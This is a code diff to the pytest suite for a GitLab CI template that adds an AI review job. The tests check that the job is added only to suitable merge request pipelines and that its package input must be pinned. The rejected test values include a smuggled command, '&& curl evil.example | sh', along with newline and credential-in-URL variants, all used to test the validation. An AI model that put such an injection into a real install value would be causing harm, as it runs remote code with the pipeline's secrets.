@@ -13,6 +13,7 @@ from pathlib import Path
 
 import gitlab
 import pytest
+import re2
 import yaml
 
 from course_agent.publish import SUMMARY_MARKER
@@ -112,11 +113,13 @@ def mr_pipeline(project: str = "7", mr_project: str = "7", iid: str = "483", eve
 @pytest.mark.parametrize("name, variables, added", [
     ("same project", mr_pipeline(**SECRETS), True),
     ("same project, merged results", mr_pipeline(event="merged_result", **SECRETS), True),
-    ("GITLAB_TOKEN instead", mr_pipeline(GITLAB_TOKEN=TOKEN, ANTHROPIC_API_KEY="set"), True),
+    # a GITLAB_TOKEN set for other tools (releases, Renovate) does not make the reviewer run with its rights
+    ("GITLAB_TOKEN only", mr_pipeline(GITLAB_TOKEN=TOKEN, ANTHROPIC_API_KEY="set"), False),
     ("merge train", mr_pipeline(event="merge_train", **SECRETS), False),
     ("fork, in the fork", mr_pipeline(project="99"), False),
     ("no key", mr_pipeline(COURSE_AGENT_GITLAB_TOKEN=TOKEN), False),
     ("no token", mr_pipeline(ANTHROPIC_API_KEY="set"), False),
+    # protected variables on a feature branch's MR: GitLab gives the pipeline neither, as if unset
     ("protected variables, unprotected branch", mr_pipeline(), False),
     ("branch pipeline", {"GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "push", "CI_PROJECT_ID": "7", **SECRETS}, False),
     ("schedule", {"GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "schedule", "CI_PROJECT_ID": "7", **SECRETS}, False),
@@ -127,7 +130,8 @@ def test_the_job_is_added_only_to_merge_request_pipelines_that_have_both_secrets
 
 def test_the_job_waits_for_nothing_and_takes_nothing_from_the_project_defaults():
     _, job = template()
-    assert job["needs"] == [] and job["inherit"] == {"default": False}
+    assert job["needs"] == [] and job["inherit"] == {"default": ["tags"]}  # the runners' tags, nothing else
+    assert job["variables"]["GIT_DEPTH"] == "1"
     assert job["retry"]["exit_codes"] == [7] and job["retry"]["max"] == 2
     assert job["artifacts"]["access"] == "developer" and job["artifacts"]["expose_as"]
     assert "$CI_MERGE_REQUEST_IID" in job["resource_group"]
@@ -137,18 +141,23 @@ def test_the_job_waits_for_nothing_and_takes_nothing_from_the_project_defaults()
 @pytest.mark.parametrize("package, pinned", [
     (PACKAGE, True),
     ("git+https://gitlab.example.com/tools/agent-loop-course.git@" + "3f" * 20, True),
-    ("course-agent==0.1.0", True),
+    ("course-agent==0.1.0", False),  # not until this project publishes it: a free name is anyone's
     ("course-agent", False),  # the name is free on PyPI: whoever registers it would run with the job's secrets
     ("git+https://gitlab.example.com/tools/agent-loop-course.git@main", False),  # a branch moves
     ("git+https://gitlab.example.com/tools/agent-loop-course.git", False),
     ("git+http://gitlab.example.com/tools/agent-loop-course.git@v0.1.0", False),
     ("course-agent>=0.1", False),
     (PACKAGE + " && curl evil.example | sh", False),
+    (PACKAGE + "\n", False),
+    ("git+https://$EVIL_HOST/tools/agent-loop-course.git@v0.1.0", False),  # checked before variables expand
+    ("git+https://user:pw@gitlab.example.com/tools/agent-loop-course.git@v0.1.0", False),
 ])
 def test_the_package_input_must_be_pinned(package, pinned):
     inputs, _ = template()
     assert "default" not in inputs["package"]  # no install from a guess: the including project says where from
-    assert bool(re.fullmatch(inputs["package"]["regex"], package)) is pinned
+    assert all(inputs[name]["type"] == "string" for name in inputs)
+    # GitLab matches an input's regex with RE2, unanchored (a search): the pattern's ^...$ must hold the whole value
+    assert bool(re2.search(inputs["package"]["regex"], package)) is pinned
 
 
 def test_a_pinned_git_url_of_this_repository_resolves(tmp_path):
